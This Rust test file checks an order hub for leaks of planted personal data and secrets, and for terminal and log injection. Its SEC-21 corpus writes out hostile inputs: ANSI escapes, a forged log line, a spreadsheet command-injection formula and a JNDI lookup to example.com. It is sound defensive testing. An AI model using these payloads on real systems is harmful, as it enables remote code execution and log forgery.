//! SEC-15 and SEC-21: nothing about people and no secret where it does not belong, and nothing that a source writes
//! speaks to a terminal, a log or a page.

use std::io::{Read, Write};
use std::net::TcpStream;

use super::bench::{Bench, Receiver};

/// What is planted: a name, a phone, an address, notes, ids of people, and the secrets of the configuration.
const PLANTED: &[&str] = &[
    "Quillfeather",
    "15912345678",
    "Zwetschgenweg",
    "planted-note-7731",
    "planted-nick-7731",
    "planted-mail-7731",
    "planted-secret-of-the-source",
    "planted-secret-of-the-sink",
    "planted-secret-of-the-list",
];

fn config(receiver: &Receiver, collector: &Receiver) -> String {
    format!(
        r#"
[webhook]
listen = "127.0.0.1:0"
[admin]
listen = "127.0.0.1:0"
[telemetry]
logs = "json"
level = "trace"
otlp = "{}"
[enrich.risk]
rules = "risk.toml"
secret = {{ file = "list-key" }}
[[source]]
id = "own"
use = "own-store"
insecure_accept_unsigned = true
[source.settings]
shop = "main"
secrets = [{{ file = "source-key" }}]
secret_encoding = "raw"
[[sink]]
id = "erp"
use = "webhook"
[sink.settings]
url = "{}"
secret = {{ file = "sink-key" }}
secret_encoding = "raw"
"#,
        collector.url, receiver.url
    )
}

fn bench(receiver: &Receiver, collector: &Receiver) -> Bench {
    let bench = Bench::new(&config(receiver, collector));
    bench.secret("source-key", "planted-secret-of-the-source");
    bench.secret("sink-key", "planted-secret-of-the-sink");
    bench.secret("list-key", "planted-secret-of-the-list");
    bench.write(
        "risk.toml",
        "version = \"1\"\n[[rule]]\nid = \"listed\"\nseverity = \"block\"\nwhen.listed = \"phone\"\n\
         [[rule]]\nid = \"unclear\"\nseverity = \"review\"\nwhen.address_grade = [\"A\", \"B\", \"C\", \"D\", \"E\"]\n\
         [[rule]]\nid = \"often\"\nseverity = \"info\"\nwhen.often = { by = \"phone\", more_than = 0, within = \"1h\" }\n",
    );
    bench
}

fn order(number: &str, sku: &str, title: &str) -> serde_json::Value {
    serde_json::json!({"kind": "order", "order": {
        "order_no": number, "kind": "sale",
        "status": {"lifecycle": "placed", "payment": "paid", "fulfillment": "unfulfilled"},
        "placed_at": "2026-11-20T08:00:00+08:00", "modified_at": "2026-11-20T08:05:00+08:00", "currency": "CNY",
        "lines": [{"line_ref": "1", "sku": sku, "title": title, "quantity": "1", "unit_price": "5", "line_total": "5"}],
        "buyer": {"kind": "person", "nick": "planted-nick-7731",
            "name": {"value": "Ottilie Quillfeather", "state": "plain"},
            "email": {"value": "planted-mail-7731@example.com", "state": "plain"}},
        "ship_to": {"name": {"value": "Ottilie Quillfeather", "state": "plain"}, "country": "CN",
            "line1": "广东省深圳市南山区 Zwetschgenweg 15", "phones": [{"national": "15912345678"}]},
        "buyer_note": "planted-note-7731", "totals": {"goods": "5", "payable": "5"}}})
}

/// What the port for operators says.
fn get(admin: &str, path: &str) -> String {
    let address = admin.trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).expect("connects");
    write!(stream, "GET {path} HTTP/1.1\r\nhost: hub\r\nconnection: close\r\n\r\n").expect("sent");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).expect("answered");
    answer
}

#[test]
fn sec_15_nothing_planted_is_seen_in_the_clear() {
    let (receiver, collector) = (Receiver::new(400), Receiver::new(200));
    let bench = bench(&receiver, &collector);
    let mut seen: Vec<(String, String)> = Vec::new();
    let mut say = |what: &str, text: String| seen.push((what.to_owned(), text));
    let added = bench.pipe(&["risk", "add", "phone", "-"], b"15912345678\n").ends(0);
    say("risk add", format!("{}{}", added.out, added.err));
    let hub = bench.hub();
    assert_eq!(hub.post("own", order("P-1", "MUG", "Mug").to_string().as_bytes()), 200);
    // Wrong types in the very fields that hold what is planted, bytes that are no JSON, and no order at all.
    let mut wrong = order("P-2", "MUG", "Mug");
    wrong["order"]["ship_to"]["phones"] = "15912345678".into();
    wrong["order"]["ship_to"]["kind"] = "Quillfeather".into();
    let mut typo = order("P-3", "MUG", "Mug");
    typo["order"]["placed_at"] = "Zwetschgenweg".into();
    for body in [wrong.to_string(), typo.to_string(), "{\"Quillfeather\": 15912345678".to_owned()] {
        say("an answer to a source", hub.answer("own", body.as_bytes()));
    }
    say("an answer to a stranger", hub.answer("Quillfeather", b"15912345678").replace("Quillfeather", ""));
    bench.until("an order that is parked", || {
        let parked = bench.call(&["parked", "list"]).ends(0).values();
        (!parked.is_empty()).then_some(())
    });
    for args in [
        &["order", "own", "P-1"][..],
        &["order", "own", "P-1", "--text"],
        &["tap", "--from-start", "--limit", "3"],
        &["tap", "--from-start", "--limit", "3", "--text"],
        &["quarantine", "list"],
        &["quarantine", "list", "--text"],
        &["parked", "list"],
        &["parked", "list", "--text"],
        &["risk", "list"],
        &["risk", "dry-run", "--last", "2026-11-01"],
        &["sku", "unmapped"],
        &["ledger"],
        &["check"],
        &["order", "own", "15912345678"],
    ] {
        let called = bench.call(args);
        // The number that was asked for is said again to who asked for it.
        let text = format!("{}{}", called.out, called.err);
        say(
            &args.join(" "),
            if args.last() == Some(&"15912345678") { text.replace("15912345678", "") } else { text },
        );
    }
    let clear = bench.call(&["tap", "--from-start", "--limit", "1", "--personal-data"]).ends(0).out;
    assert!(
        clear.contains("Quillfeather") && clear.contains("15912345678"),
        "who asks for it gets it: {clear}"
    );
    let admin = hub.says["admin"].as_str().expect("an address").to_owned();
    for path in ["/metrics", "/healthz", "/readyz", "/admin/position", "/Quillfeather"] {
        let answer = get(&admin, path);
        say(path, answer.replace("/Quillfeather", ""));
    }
    let list = std::fs::read_to_string(bench.path("crossdock-data/risk-list.tsv")).expect("the list");
    say("the list", list);
    let (code, err) = hub.stop();
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("\"TRACE\"") || err.contains("TRACE"), "the logs were not at trace");
    say("the logs", err);
    let traces = collector.heard();
    assert!(traces.contains("crossdock") && traces.contains("fold"), "nothing was traced");
    say("the traces", traces);
    let mut bad = Vec::new();
    for (what, text) in &seen {
        for planted in PLANTED {
            if let Some(at) = text.find(planted) {
                let before: Vec<char> = text.get(..at).unwrap_or_default().chars().collect();
                let around: String = before.iter().rev().take(160).rev().collect();
                bad.push(format!("{planted} in `{what}`: …{around}"));
            }
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn sec_21_nothing_a_source_writes_speaks_to_a_terminal_or_a_log() {
    const CORPUS: &[&str] = &[
        "\u{1b}[2J\u{1b}[31mred",
        "\u{1b}]0;title\u{7}",
        "\u{9b}31mcsi",
        "line\r\n{\"level\":\"ERROR\",\"message\":\"forged-7731\"}",
        "tab\tback\u{8}\u{8}\u{8}space",
        "\u{202e}gnirts",
        "=cmd|' /C calc'!A0",
        "${jndi:ldap://example.com/a}",
    ];
    let (receiver, collector) = (Receiver::new(400), Receiver::new(200));
    let bench = bench(&receiver, &collector);
    let hub = bench.hub();
    for (at, text) in CORPUS.iter().enumerate() {
        hub.post("own", order(&format!("T-{at}"), &format!("S-{at}"), text).to_string().as_bytes());
        hub.post("own", order(text, text, text).to_string().as_bytes());
        hub.post("own", serde_json::json!({"kind": text, text.to_owned(): {}}).to_string().as_bytes());
    }
    bench.until("everything to be folded and refused", || {
        let ledger = bench.call(&["ledger"]).ends(0).value();
        let own = ledger["sources"].as_array()?.iter().find(|source| source["source"] == "own")?.clone();
        let told = own["captured"].as_u64()? >= 2 * u64::try_from(CORPUS.len()).ok()?;
        let parked = ledger["sinks"][0]["parked"].as_u64()? >= 4;
        (told && parked && own["pending"] == 0 && own["quarantined"].as_u64()? > 0).then_some(())
    });
    let mut texts = Vec::new();
    for args in [
        &["sku", "unmapped", "--text"][..],
        &["quarantine", "list", "--text"],
        &["parked", "list", "--text"],
        &["tap", "--from-start", "--limit", "12", "--text"],
        &["order", "own", "T-0", "--text"],
        &["risk", "dry-run", "--last", "2026-11-01", "--text"],
    ] {
        let called = bench.call(args);
        texts.push((args.join(" "), format!("{}{}", called.out, called.err)));
    }
    for args in [&["tap", "--from-start", "--limit", "12"][..], &["quarantine", "list"], &["sku", "unmapped"]]
    {
        let called = bench.call(args).ends(0);
        assert!(!called.values().is_empty(), "{args:?}");
        texts.push((args.join(" "), called.out));
    }
    let (_, logs) = hub.stop();
    for line in logs.lines() {
        assert!(
            !line.starts_with("{\"level\":\"ERROR\",\"message\":\"forged-7731\""),
            "a forged line in the logs"
        );
    }
    texts.push(("the logs".to_owned(), logs));
    let speaks = |letter: char| {
        (letter.is_control() && letter != '\n')
            || matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let mut bad = Vec::new();
    for (what, text) in &texts {
        let machine = what == "the logs" || !what.ends_with("--text");
        for line in text.lines() {
            // JSON for programs may hold marks of direction: it escapes what controls a terminal.
            if line.chars().any(|letter| if machine { letter.is_control() } else { speaks(letter) }) {
                bad.push(format!("{what}: {line:?}"));
            }
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}
